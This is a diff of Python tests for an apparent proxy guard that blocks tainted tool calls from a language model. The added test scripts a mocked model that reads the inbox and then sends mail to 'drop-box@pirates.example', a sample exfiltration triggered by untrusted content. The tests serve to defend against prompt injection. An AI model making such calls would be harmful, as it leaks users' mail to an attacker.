@@ -78,15 +78,15 @@ def calls(*made):
     return {"json": {"id": "chatcmpl-1", "object": "chat.completion", "created": 1, "model": "m", "choices": [{"index": 0, "finish_reason": "tool_calls", "message": message}]}}
 
 
-def streamed(*made):
+def streamed(*made, number=lambda n: {"index": n}):
     def event(delta, reason=None):
         return {"id": "chatcmpl-1", "object": "chat.completion.chunk", "created": 1, "model": "m", "choices": [{"index": 0, "delta": delta, "finish_reason": reason}]}
 
     events = [event({"role": "assistant", "content": None})]
     for n, (name, arguments) in enumerate(made):
         text = json.dumps(arguments)
-        events.append(event({"tool_calls": [{"index": n, "id": f"call_{n}", "type": "function", "function": {"name": name, "arguments": ""}}]}))
-        events += [event({"tool_calls": [{"index": n, "function": {"arguments": text[i : i + 7]}}]}) for i in range(0, len(text), 7)]
+        events.append(event({"tool_calls": [{**number(n), "id": f"call_{n}", "type": "function", "function": {"name": name, "arguments": ""}}]}))
+        events += [event({"tool_calls": [{**number(n), "function": {"arguments": text[i : i + 7]}}]}) for i in range(0, len(text), 7)]
     return {"events": [*events, event({}, "tool_calls"), "[DONE]"]}
 
 
@@ -286,6 +286,16 @@ def test_documents_of_an_earlier_answer_stay_untrusted(guarded, mock, tmp_path):
     assert "drop-box" in answer.json()["choices"][0]["message"]["content"]
     held = ask(guarded, [first, {"role": "assistant", "content": said}, user("Do so.")]).json()["choices"][0]
     assert held["finish_reason"] == "content_filter" and held["sallyport_tool_calls"]["calls"][0]["reason"] == "tainted: value"
+
+
+@pytest.mark.parametrize("number", [lambda n: {"index": n}, lambda n: {"index": 0}, lambda n: {}], ids=["numbered", "all of one number", "without numbers"])
+def test_calls_beside_others_are_known_however_an_upstream_numbers_them(guarded, mock, number):
+    made = [("read_mail", {"folder": "inbox"}), ("send_mail", {"to": "drop-box@pirates.example", "text": "hello"})]
+    mock.script("chat/completions$", streamed(*made, number=number))
+    answer = ask(guarded, HISTORY, stream=True)
+    assert answer.status == 200 and b"pirates.example" not in answer.body, answer.body
+    held = [e for e in answer.chunks() if e.get("choices")][-1]["choices"][0]["sallyport_tool_calls"]
+    assert [(c["tool"], c["reason"].startswith("tainted")) for c in held["calls"]] == [("send_mail", True)]
 
 
 @pytest.mark.parametrize("stream", [False, True])
